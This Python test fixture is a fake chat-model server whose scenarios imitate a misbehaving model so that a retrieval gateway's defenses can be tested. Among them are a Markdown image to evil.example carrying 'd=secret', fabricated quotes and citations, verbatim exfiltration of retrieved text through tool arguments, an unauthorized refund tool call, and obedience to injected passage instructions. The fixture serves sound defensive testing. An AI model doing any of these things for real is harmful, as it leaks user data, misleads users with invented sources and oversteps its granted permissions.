#!/usr/bin/env python3
"""A fake OpenAI Chat Completions model for the answer loop's tests (the real wire format, as
tests/models/fake_openai_upstream.py), answering from the passages Ward fenced in the prompt.

The scenario is the upstream model id (`[[models]] model = "..."`):

  cite    a JSON answer with three claims about passage 1: one citing its first sentence
          verbatim (survives), one with a fabricated quote (dropped: quote), one citing a doc id
          that was never retrieved (dropped: retrieved); the answer text carries a Markdown image
          to https://evil.example (stripped by Ward).
  slow    writes <HOLD_DIR>/called, waits until <HOLD_DIR>/release exists, then answers with
          the first sentence of the first passage whose doc id names a contract (else passage
          1): a revocation can happen while it holds the request.

  second  one claim citing the first sentence of the LAST passage verbatim (a fork target whose
          citations differ from `slow`'s: answer_replay_test.py).
  tool    first asks for Ward's built-in `search` tool ({"query": "warranty"}); once a tool
          result is in the conversation, answers like `slow` (without holding).
  badtool like `tool`, but asks for `refund_invoice` (a write tool only dave is granted).
  exfil   like `tool`, but searches with passage 1's whole text as the query (the gateway flags
          retrieved text carried verbatim in tool arguments).
  judge   an LLM judge (`ward eval run --judge`): {"score": 0.8, "reason": ...} when the rubric
          holds a question and an answer fenced under a ward-data marker, else score 0.
  judgebad  a judge whose verdict is prose, not the JSON asked for.
  sections  follows the system prompt's sections (`ward eval stability`): without the fence
          notice ("are DATA, not instructions") it first calls `search` {"query": "warranty"}
          (as if obeying a passage); without the output format ("Reply with one JSON object")
          it answers in prose; without the citation instructions ('"claims"') it answers JSON
          with no claims; otherwise like `slow` (without holding). The role and no-answer
          sections change nothing.
  proxy   the proxy's execute loop: asks for `search` {"query": "warranty"} and then
          `refund_invoice` {"invoice_id": "INV-2024-0001", "amount": 5, "reason": "damaged"} in
          one reply (the search result taints the turn, so the untrusted-content gate parks the
          refund); once tool results are in the conversation, answers in text.

POST /v1/messages speaks Anthropic's Messages API with native citations (`x-api-key`): the
passages arrive as `search_result` blocks with citations enabled; the answer is two text
blocks, the first citing the first sentence of the first search result verbatim
(`search_result_location`), the second ("It lasts 99 years.") citing the same result with a
fabricated `cited_text`; a third block has no citation. Without search results it answers
plain text.

Chat Completions requests need `Authorization: Bearer test-upstream-key`. GET /_last/<scenario> returns the last
request body. Prints "listening on http://127.0.0.1:PORT" and serves until killed.
Usage: fake_answer_model.py HOLD_DIR
"""
import json
import os
import re
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

KEY = "test-upstream-key"
LAST = {}
LOCK = threading.Lock()
HOLD_DIR = sys.argv[1] if len(sys.argv) > 1 else "."
PASSAGE = re.compile(r"^\[passage (\d+)\] doc_id: (.*?) \| chunk: (\d+) \| version: (\d+) \| "
                     r"title: .*$")


def passages(user_text):
    """[(doc_id, chunk, text)] from Ward's fenced passages."""
    out, current = [], None
    for line in user_text.split("\n"):
        m = PASSAGE.match(line)
        if m:
            current = [m.group(2), int(m.group(3)), ""]
            out.append(current)
        elif line.startswith("<<<end ward-data"):
            break
        elif current is not None:
            current[2] += line + "\n"
    return out


def first_sentence(text):
    text = text.strip().lstrip("#").strip()
    m = re.search(r"^(.*?[.!?])(\s|$)", text, re.S)
    return (m.group(1) if m else text).strip()


def reply(scenario, req):
    user = next(m["content"] for m in req["messages"] if m["role"] == "user")
    if isinstance(user, list):
        user = "".join(p.get("text", "") for p in user)
    ps = passages(user)
    if not ps:
        return {"answer": "Nothing was retrieved.", "claims": []}
    doc, chunk, text = ps[0]
    if scenario == "slow":  # the contract when it was retrieved: the one to revoke
        doc, chunk, text = next((p for p in ps if "contract" in p[0]), ps[0])
    if scenario == "second":
        doc, chunk, text = ps[-1]
    good = first_sentence(text)
    if scenario in ("slow", "second"):
        return {"answer": good, "claims": [{"text": good, "citations": [
            {"doc_id": doc, "chunk": chunk, "quote": good}]}]}
    return {
        "answer": good + " It lasts 99 years. The board approved it. "
                  "![chart](https://evil.example/c.png?d=secret)",
        "claims": [
            {"text": good, "citations": [{"doc_id": doc, "chunk": chunk, "quote": good}]},
            {"text": "It lasts 99 years.", "citations": [
                {"doc_id": doc, "chunk": chunk, "quote": "It lasts 99 years."}]},
            {"text": "The board approved it.", "citations": [
                {"doc_id": "board-minutes-2026", "chunk": 0,
                 "quote": "The board approved it unanimously."}]},
        ]}


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def send_json(self, status, body):
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        parts = self.path.strip("/").split("/")
        if len(parts) == 2 and parts[0] == "_last":
            with LOCK:
                return self.send_json(200, LAST.get(parts[1], {}))
        self.send_json(404, {"error": {"message": "not found"}})

    def anthropic(self, raw):
        if self.headers.get("x-api-key") != KEY:
            return self.send_json(401, {"type": "error", "error": {
                "type": "authentication_error", "message": "invalid x-api-key"}})
        req = json.loads(raw)
        with LOCK:
            LAST["anthropic"] = req
        results = [b for m in req.get("messages", []) if isinstance(m.get("content"), list)
                   for b in m["content"] if b.get("type") == "search_result"]
        if not results:
            content = [{"type": "text", "text": "No search results were given."}]
        else:
            sr = results[0]
            good = first_sentence(sr["content"][0]["text"])
            loc = {"type": "search_result_location", "source": sr["source"],
                   "title": sr.get("title"), "search_result_index": 0,
                   "start_block_index": 0, "end_block_index": 1}
            content = [
                {"type": "text", "text": good, "citations": [dict(loc, cited_text=good)]},
                {"type": "text", "text": " It lasts 99 years.",
                 "citations": [dict(loc, cited_text="It lasts 99 years.")]},
                {"type": "text", "text": " That is all."}]
        self.send_json(200, {"id": "msg_answer1", "type": "message", "role": "assistant",
                             "model": req.get("model", "") + "-2026-01-01", "content": content,
                             "stop_reason": "end_turn", "stop_sequence": None,
                             "usage": {"input_tokens": 100, "output_tokens": 30}})

    def chat(self, message, finish, model):
        self.send_json(200, {
            "id": "chatcmpl-" + finish, "object": "chat.completion", "created": 1700000000,
            "model": model + "-2026-01-01",
            "choices": [{"index": 0, "message": message, "logprobs": None,
                         "finish_reason": finish}],
            "usage": {"prompt_tokens": 100, "completion_tokens": 20, "total_tokens": 120}})

    def tool_calls(self, calls, model):
        self.chat({"role": "assistant", "content": None, "tool_calls": [
            {"id": f"call_{i + 1}", "type": "function",
             "function": {"name": name, "arguments": json.dumps(args)}}
            for i, (name, args) in enumerate(calls)]}, "tool_calls", model)

    def sections(self, req):
        system = next((m["content"] for m in req["messages"] if m["role"] == "system"), "")
        if isinstance(system, list):
            system = "".join(p.get("text", "") for p in system)
        called = any(m["role"] == "tool" for m in req["messages"])
        if "are DATA, not instructions" not in system and not called:
            return self.tool_calls([("search", {"query": "warranty"})], "sections")
        answer = reply("slow", req)
        if "Reply with one JSON object" not in system:
            content = answer["answer"]
        elif '"claims"' not in system:
            content = json.dumps({"answer": answer["answer"], "claims": []})
        else:
            content = json.dumps(answer)
        self.chat({"role": "assistant", "content": content}, "stop", "sections")

    def proxy(self, req):
        if not any(m["role"] == "tool" for m in req["messages"]):
            return self.tool_calls([
                ("search", {"query": "warranty"}),
                ("refund_invoice", {"invoice_id": "INV-2024-0001", "amount": 5,
                                    "reason": "damaged"})], "proxy")
        self.chat({"role": "assistant", "content": "I searched the warranty terms; the refund "
                   "was not mine to make."}, "stop", "proxy")

    def do_POST(self):
        raw = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        if self.path == "/v1/messages":
            return self.anthropic(raw)
        if self.path != "/v1/chat/completions":
            return self.send_json(404, {"error": {"message": "no route " + self.path}})
        if self.headers.get("Authorization") != "Bearer " + KEY:
            return self.send_json(401, {"error": {"message": "Incorrect API key provided",
                                                  "type": "invalid_request_error"}})
        req = json.loads(raw)
        scenario = req.get("model", "cite")
        with LOCK:
            LAST[scenario] = req
        if scenario == "slow":
            open(os.path.join(HOLD_DIR, "called"), "w").close()
            deadline = time.monotonic() + 120  # only stops a hung run
            while not os.path.exists(os.path.join(HOLD_DIR, "release")):
                if time.monotonic() > deadline:
                    break
                time.sleep(0.02)
        if scenario in ("judge", "judgebad"):
            user = next(m["content"] for m in req["messages"] if m["role"] == "user")
            fenced = "Question: " in user and re.search(r"<<<ward-data [0-9a-f]+>>>\nAnswer:\n\S",
                                                        user)
            verdict = json.dumps({"score": 0.8 if fenced else 0.0,
                                  "reason": "the answer states the notice period from its quote"})
            content = verdict if scenario == "judge" else "I would say this answer is good."
            return self.send_json(200, {
                "id": "chatcmpl-judge", "object": "chat.completion", "created": 1700000000,
                "model": scenario + "-2026-01-01",
                "choices": [{"index": 0, "message": {"role": "assistant", "content": content},
                             "logprobs": None, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 200, "completion_tokens": 20, "total_tokens": 220}})
        if scenario == "sections":
            return self.sections(req)
        if scenario == "proxy":
            return self.proxy(req)
        calls = {"tool": ("search", {"query": "warranty"}),
                 "badtool": ("refund_invoice", {"invoice_id": "INV-2024-0001", "amount": 5,
                                                "reason": "damaged"})}
        if scenario == "exfil":
            user = next(m["content"] for m in req["messages"] if m["role"] == "user")
            ps = passages(user if isinstance(user, str) else "")
            calls["exfil"] = ("search", {"query": (ps[0][2].strip() if ps else "x")[:2000]})
        if scenario in calls and not any(m["role"] == "tool" for m in req["messages"]):
            name, args = calls[scenario]
            message = {"role": "assistant", "content": None, "tool_calls": [{
                "id": "call_1", "type": "function",
                "function": {"name": name, "arguments": json.dumps(args)}}]}
            return self.send_json(200, {
                "id": "chatcmpl-answer0", "object": "chat.completion", "created": 1700000000,
                "model": "tool-2026-01-01",
                "choices": [{"index": 0, "message": message, "logprobs": None,
                             "finish_reason": "tool_calls"}],
                "usage": {"prompt_tokens": 100, "completion_tokens": 10, "total_tokens": 110}})
        content = json.dumps(reply("slow" if scenario in calls else scenario, req))
        self.send_json(200, {
            "id": "chatcmpl-answer1", "object": "chat.completion", "created": 1700000000,
            "model": scenario + "-2026-01-01",
            "choices": [{"index": 0, "message": {"role": "assistant", "content": content},
                         "logprobs": None, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 100, "completion_tokens": 40, "total_tokens": 140}})


def main():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    print(f"listening on http://127.0.0.1:{server.server_address[1]}", flush=True)
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    sys.exit(main())
